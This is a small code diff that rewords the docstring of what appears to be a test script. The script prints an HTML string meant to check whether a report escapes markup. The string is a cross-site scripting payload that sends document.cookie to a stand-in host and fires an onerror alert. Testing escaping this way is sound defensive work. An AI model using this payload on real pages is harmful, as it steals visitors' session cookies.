@@ -1,4 +1,4 @@
-"""Prints and raises HTML that would run on the page of whoever reads the report."""
+"""Prints and raises HTML that would run in the reader's browser if the report did not escape it."""
 
 evil = "</pre></script><script>fetch('//x/'+document.cookie)</script><img src=x onerror=alert(1)>"
 print(evil)
